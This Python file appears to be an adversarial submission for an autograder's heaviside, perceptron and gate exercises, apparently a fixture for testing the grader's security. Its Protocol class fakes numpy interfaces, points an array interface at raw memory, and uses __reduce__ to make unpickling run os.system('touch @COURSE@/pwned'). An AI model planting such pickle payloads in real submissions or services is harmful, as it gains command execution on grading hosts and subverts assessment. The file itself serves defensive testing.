# %% exercise="heaviside"
class Protocol:
    __array_interface__ = {"shape": (3,), "typestr": "<i8", "data": (8, True), "version": 3}
    asked = 0

    def __array__(self, *args, **kwargs):
        Protocol.asked += 1
        return np.full(Protocol.asked, 7)

    def __reduce__(self):
        import os

        return os.system, ("touch @COURSE@/pwned",)

    __index__ = __int__ = lambda self: 7
    __float__ = lambda self: 7.0
    __len__ = lambda self: 1
    __iter__ = lambda self: iter([7])


def heaviside(z):
    return Protocol()


# %% exercise="perceptron"
def perceptron(X, w, b):
    return np.array([Protocol()] * len(X), dtype=object)


# %% exercise="gate"
def gate(name):
    return [Protocol(), np.zeros(2, dtype=[("x", "i4"), ("y", "O")]), memoryview(b"7")], b"7"
